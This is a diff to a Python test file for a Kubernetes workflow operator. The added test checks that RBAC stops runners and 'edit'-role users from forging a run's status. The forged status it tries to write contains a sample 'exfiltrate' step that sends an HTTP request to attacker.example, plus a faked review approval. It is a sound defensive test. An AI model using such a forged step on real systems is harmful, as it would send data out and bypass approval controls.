@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import json
 from typing import Any
 
 import pytest
@@ -64,6 +65,28 @@ def test_a_runner_cannot_change_what_a_run_does(
             "spec.params is immutable")
     refused(patch_as(cluster, "carol", "workflowrun", "alices-run", ns, {"spec": {"requestedBy": "bob"}}),
             "spec.requestedBy is immutable")
+
+
+def test_nobody_but_the_operator_writes_a_runs_status(
+    towline_operator: OperatorProcess, towline_installed: ControlPlane, team_namespace: str
+) -> None:
+    """A run's status is what it does next (its Workflow copy) and what it did (its steps' outputs). The API
+    server no longer validates the copy (status.workflowSpec is opaque: docs/benchmarks.md), so RBAC is what
+    keeps it the operator's: neither a runner, nor the requester, nor the built-in `edit` role writes status."""
+    cluster, ns = towline_installed, team_namespace
+    before = started(cluster, ns)
+    bind_role(cluster, ns, "edit", users=("bob",))  # a runner here too: the built-in role adds what it may
+    forged = {"status": {"workflowSpec": {"generation": 1, "steps": [
+        {"id": "exfiltrate", "action": "http.request", "with": {"url": "https://attacker.example/"}}]},
+        "steps": [{"id": "review", "phase": "Succeeded", "output": {"approved": True}}]}}
+    for user in ("carol", "alice", "bob"):
+        result = cluster.kubectl("patch", "workflowrun", "alices-run", "-n", ns, "--subresource", "status",
+                                 "--type", "merge", "-p", json.dumps(forged), user=user, check=False)
+        refused(result, "forbidden")
+    after = get(cluster, RUNS, "alices-run", ns)
+    assert after is not None
+    assert after["status"]["workflowSpec"] == before["status"]["workflowSpec"]
+    assert [step["id"] for step in after["status"]["steps"]] == [step["id"] for step in before["status"]["steps"]]
 
 
 def test_any_runner_may_suspend_resume_and_cancel_any_run_of_the_namespace(
